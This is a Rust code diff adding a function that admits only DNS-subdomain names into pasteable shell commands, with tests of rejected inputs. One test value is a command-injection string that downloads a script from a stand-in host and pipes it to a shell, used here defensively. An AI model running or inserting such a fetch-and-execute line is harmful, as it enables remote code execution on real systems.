@@ -39,6 +39,24 @@ pub fn one_line(words: &str) -> String {
     line
 }
 
+/// A name as it can stand in a command that is to be pasted: names of objects are DNS subdomains, in which a shell finds nothing to do. Of
+/// anything else, which somebody may have written for that very shell, only the place is shown.
+pub fn in_command(name: &str) -> &str {
+    const LONGEST: usize = 253;
+    let is_inner = |b: u8| b.is_ascii_lowercase() || b.is_ascii_digit();
+    let is_label = |part: &str| {
+        !part.is_empty()
+            && !part.starts_with('-')
+            && !part.ends_with('-')
+            && part.bytes().all(|b| is_inner(b) || b == b'-')
+    };
+    if name.len() <= LONGEST && name.split('.').all(is_label) {
+        name
+    } else {
+        "NAME"
+    }
+}
+
 /// Whether a letter shows as itself, and leaves those beside it where they are.
 fn is_safe(letter: char) -> bool {
     const ARABIC_LETTER_MARK: char = '\u{61c}';
@@ -60,5 +78,28 @@ mod tests {
             lines.into_text(),
             "  web-0: größer — ok\na\\nb\\r\\tc\\u{1b}[2J\\u{85}\\u{2028}\\u{202e}d\\u{7f}\n"
         );
+    }
+
+    #[test]
+    fn only_names_get_into_commands() {
+        for name in ["web-0", "0.a-b.c"] {
+            assert_eq!(in_command(name), name);
+        }
+        let long = "a".repeat(254);
+        for text in [
+            "",
+            "-f",
+            "a b",
+            "a;b",
+            "$(curl${IFS}evil.example|sh)",
+            "a..b",
+            "a.-b",
+            "A",
+            "ä",
+            "a\nb",
+            &long,
+        ] {
+            assert_eq!(in_command(text), "NAME", "{text}");
+        }
     }
 }
